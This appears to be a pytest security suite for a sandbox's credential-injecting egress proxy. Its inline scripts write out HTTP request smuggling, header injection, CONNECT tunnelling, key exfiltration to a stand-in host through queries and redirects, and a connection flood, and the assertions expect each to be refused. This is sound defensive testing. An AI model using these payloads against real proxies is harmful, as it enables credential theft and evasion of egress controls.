"""Threat: what a network of rules keeps out gets through behind one wall, and not behind another.

Control: behind each wall all that is dialled arrives at one relay, and what is read at one
terminator. That each of the attacks succeeds where its own control is left out the tests of those
say (docs/threat-model.md).
"""

import base64
import json
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from tests import qemu, rootfs
from tests.security import test_secrets_of_a_sandbox as secrets
from tests.security.daemons import Daemon
from tests.security.test_secrets_of_a_sandbox import API, KEY, OTHER, upstream
from tests.upstream import Upstream

from agentd import Sandbox

__all__ = ["upstream"]  # a fixture

WALLS = [
    "linux",
    pytest.param("oci", marks=pytest.mark.needs("runc")),
    pytest.param("gvisor", marks=[pytest.mark.needs("runsc"), pytest.mark.timeout(900)]),
]
_INSIDE = r"""
import base64, json, os, socket, ssl, sys
API, OTHER = "api.example.com", "other.example.com"
key, found = os.environ.get("KEY", ""), {}
def tls(host=API, **trust):
    sock = socket.create_connection((host, 443), 120)
    return ssl.create_default_context(**trust).wrap_socket(sock, server_hostname=host)
def heard(sock):
    said = b""
    try:
        while part := sock.recv(65536):
            said += part
    except OSError:
        pass
    return said.decode("latin-1")
def told(name, *said, host=API):
    with tls(host) as sock:
        sock.sendall("\r\n".join([*said, "", ""]).encode("latin-1"))
        found[name] = heard(sock)
"""
ATTACKS = (
    _INSIDE
    + r"""
mine, own, bye = f"Authorization: Bearer {key}", f"Host: {API}", "Connection: close"
told("connect", f"CONNECT {OTHER}:443 HTTP/1.1", f"Host: {OTHER}:443", mine)
told("absolute", f"GET https://{OTHER}/ HTTP/1.1", own, mine)
told("another host", "GET / HTTP/1.1", f"Host: {OTHER}", mine)
told("two hosts", "GET / HTTP/1.1", own, f"Host: {OTHER}", mine)
told("two lengths", "POST / HTTP/1.1", own, "Content-Length: 0", "Content-Length: 60", mine)
told("both lengths", "POST / HTTP/1.1", own, mine, "Content-Length: 4",
     "Transfer-Encoding: chunked", "", "0", "", "GET /within HTTP/1.1", own, mine)
told("folded", "GET / HTTP/1.1", own, "X-A: b", " " + mine)
told("bare", "GET / HTTP/1.1\nHost: " + API + "\n" + mine + "\n")
told("in a field", "GET / HTTP/1.1", own, mine + "\rX-Other: 1")
told("behind another", "GET /first HTTP/1.1", own, mine, "", f"GET /second HTTP/1.1",
     f"Host: {OTHER}", mine)
told("query", f"GET /?key={key} HTTP/1.1", own, bye)
basic = base64.b64encode(f"user:{key}".encode()).decode()
told("basic", "GET /basic HTTP/1.1", own, f"Authorization: Basic {basic}", bye)
told("body", "POST /body HTTP/1.1", own, mine, f"Content-Length: {len(key)}", bye, "", key)
told("redirect", "GET /redirect HTTP/1.1", own, mine, bye)
where = found["redirect"].partition("Location: ")[2].partition("\r")[0]
where = where.rpartition("/")[2].replace(" ", "%20")
told("redirected", f"GET /{where} HTTP/1.1", f"Host: {OTHER}", bye, host=OTHER)
with tls() as sock:
    sock.sendall("\r\n".join(["GET /websocket HTTP/1.1", own, mine, "Connection: Upgrade",
        "Upgrade: websocket", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", ""]).encode())
    answer = sock.recv(4096).decode("latin-1")
    text = key.encode()
    sock.sendall(bytes([0x81, 0x80 | len(text)]) + bytes(4) + text)
    found["websocket"] = answer + sock.recv(4096).decode("latin-1")
print(json.dumps(found))
"""
)
_REFUSED = {
    **dict.fromkeys(("connect", "absolute", "two lengths", "both lengths", "folded", "bare"), 400),
    **dict.fromkeys(("in a field", "two hosts"), 400),
    **dict.fromkeys(("another host", "query", "redirected"), 403),
}


@pytest.fixture(scope="module")
def store() -> Iterator[None]:
    with rootfs.own_store():
        yield


@pytest.fixture(scope="module")
def image(store: None) -> str:
    """Of machines, whose own Python has no ssl."""
    return rootfs.pulled("clients")


@pytest.fixture(scope="module")
def daemon(store: None, upstream: Upstream) -> Iterator[Daemon]:
    with secrets.having_the_key(upstream) as made:
        yield made


@pytest.fixture
def boxes(request: pytest.FixtureRequest, wall: str, daemon: Daemon) -> Iterator[Any]:
    wanted: dict[str, Any] = {"net": [f"read {OTHER}"], "secrets": [f"KEY@{API}"]}
    if wall == "qemu":
        wanted |= {"image": request.getfixturevalue("image"), "memory": "128M"}
    with ExitStack() as made:

        def make() -> Sandbox:
            sandbox = Sandbox.create(url=daemon.url, backend=wall, **wanted)
            return made.enter_context(sandbox)

        yield make


def _run(box: Sandbox, program: str, *words: str) -> Any:
    done = box.run(["python3", "-c", program, *words], timeout=300)
    assert done.ok, (done.cause, done.stderr)
    return json.loads(done.stdout)


def _status(said: str) -> int:
    return int(said.split(" ", 2)[1])


@pytest.mark.parametrize("wall", [*WALLS, qemu.WALL])
def test_nothing_gets_past_who_reads_it(boxes: Any, upstream: Upstream) -> None:
    """CONNECT, absolute targets, other hosts, requests within requests, a redirect that takes the
    credential along, and a placeholder where it is not put."""
    upstream.asked.clear()
    found = _run(boxes(), ATTACKS)
    assert {name: _status(found[name]) for name in _REFUSED} == _REFUSED, found
    assert all(KEY not in said for said in found.values())
    assert _status(found["basic"]) == _status(found["body"]) == 200
    assert _status(found["redirect"]) == 302
    first, _, second = found["behind another"].partition("HTTP/1.1 403")
    assert _status(first) == 200 and "asks for" in second
    assert [each["target"] for each in upstream.asked] == [
        "/first", "/basic", "/body", "/redirect", "/websocket"
    ]  # fmt: skip
    said = {each["target"]: each["headers"]["Authorization"] for each in upstream.asked}
    assert said["/basic"] == "Basic " + base64.b64encode(f"user:{KEY}".encode()).decode()
    assert {said[name] for name in said if name != "/basic"} == {f"Bearer {KEY}"}
    assert all(each["headers"]["Host"] == API for each in upstream.asked)
    (body,) = [each["body"] for each in upstream.asked if each["target"] == "/body"]
    assert body != KEY and body.startswith("sk-ant-") and body in found["body"]
    # Of a frame it is the placeholder that its own host is sent, and says back.
    assert "HTTP/1.1 101" in found["websocket"] and found["websocket"].count("sk-ant-") == 1
    assert KEY.encode().hex() not in str(upstream.asked)


_TRUSTS = (
    _INSIDE
    + """
for name, trust in (("its own", {}), ("another's", {"cadata": sys.argv[1]})):
    try:
        tls(**trust).close()
        found[name] = "believed"
    except ssl.SSLCertVerificationError as error:
        found[name] = error.verify_message
print(json.dumps(found))
"""
)


@pytest.mark.parametrize("wall", [*WALLS, *[qemu.WALL] * qemu.ALL])
def test_the_authority_of_one_sandbox_is_nothing_to_another(boxes: Any) -> None:
    """Whoever had its key could speak for hosts in that one sandbox alone."""
    one, other = boxes(), boxes()
    bundle = one.run("cat $SSL_CERT_FILE", check=True).text
    own = "-----BEGIN" + bundle.rpartition("-----BEGIN")[2]
    assert own not in other.run("cat $SSL_CERT_FILE", check=True).text
    assert _run(one, _TRUSTS, own) == {"its own": "believed", "another's": "believed"}
    found = _run(other, _TRUSTS, own)
    assert found["its own"] == "believed" and found["another's"] != "believed"


_FLOOD = (
    _INSIDE
    + r"""
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
address = socket.getaddrinfo(API, 443, socket.AF_INET)[0][4]
count, kept = 0, []
for each in range(2000):
    sock = socket.socket()
    try:
        sock.connect(address)
        count += 1
    except OSError:
        pass
    kept.append(sock)
    if len(kept) == 600:  # and the next, while these are open
        kept = kept[300:]
for each in range(20):
    try:
        sock = tls()
        sock.sendall(b"GET /never-read HTTP/1.1\r\nHost: api.example.com\r\n\r\n" * 50)
        kept.append(sock)
    except OSError:
        pass
print(json.dumps(len(kept)), flush=True)
sys.stdin.read()
"""
)


@pytest.mark.needs("curl")
@pytest.mark.parametrize("wall", [*WALLS, *[qemu.WALL] * qemu.ALL])
def test_a_flood_and_who_never_reads_keep_no_other_from_its_host(
    boxes: Any, upstream: Upstream
) -> None:
    flood, other = boxes(), boxes()
    with flood.start(["python3", "-c", _FLOOD], stdin=True) as flooding:
        upstream.asked.clear()
        ask = f"curl -sS -m 100 -o /dev/null -w '%{{http_code}}' https://{API}/mine"
        for _ in range(3):
            assert other.run(ask, check=True).text == "200"
        assert int(next(iter(flooding)).data) > 300
        assert other.run(ask, check=True).text == "200"
        flooding.close_stdin()
    assert flood.network.connections().totals["denied"] > 0  # beyond 512 that are open
